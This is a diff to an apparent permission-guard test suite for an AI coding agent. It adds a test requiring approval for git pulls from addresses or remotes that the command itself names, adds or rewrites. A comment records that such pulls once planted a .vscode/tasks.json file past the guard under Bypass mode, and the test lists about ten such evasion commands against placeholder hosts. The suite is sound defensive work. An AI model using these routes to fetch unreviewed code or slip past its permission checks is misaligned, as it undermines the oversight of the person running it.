@@ -7529,6 +7529,31 @@ describe("permission rules and guards", () => {
       assert.equal(git("rev-parse", "--abbrev-ref", "HEAD"), "main");
     });
 
+    // git 2.39: `git pull git://127.0.0.1:9419/x.git tasks` (served by git daemon) and `git remote add v <address> &&
+    // git pull v tasks` each wrote `.vscode/tasks.json` under Bypass: what an address the agent wrote holds is the
+    // agent's, not the person's remote's, and is not read before the fetch.
+    it("asks for a pull from an address the line names, or from a remote the request adds", () => {
+      for (const line of [
+        "git pull https://example.invalid/x.git tasks",
+        "git pull --rebase git@example.invalid:x.git",
+        "git pull file:///tmp/x.git tasks",
+        "git remote add v https://example.invalid/x.git && git pull v tasks",
+        "git remote set-url origin https://example.invalid/x.git; git pull origin main",
+        "git pull v tasks && git remote add v https://example.invalid/x.git",
+        "git remote add -t tasks v https://example.invalid/x.git && git pull v",
+        "git -c remote.origin.url=https://example.invalid/x.git pull origin main",
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=https://example.invalid/x.git git pull",
+        "git config remote.origin.url https://example.invalid/x.git && git pull",
+      ])
+        assert.equal(inTrap(line).verdict, "ask", line);
+      for (const line of [
+        "git pull origin main",
+        "git pull --rebase",
+        "git remote add upstream https://example.invalid/x.git",
+      ])
+        assert.equal(inTrap(line).verdict, "allow", line);
+    });
+
     it("reads the commits a pick or revert takes through rev-list's options as not known", () => {
       // A commit that changes nothing, on top of the one adding an editor task: git 2.39's `--do-walk` picked both.
       const tip = git("commit-tree", "tasks^{tree}", "-p", "tasks", "-m", "tip");
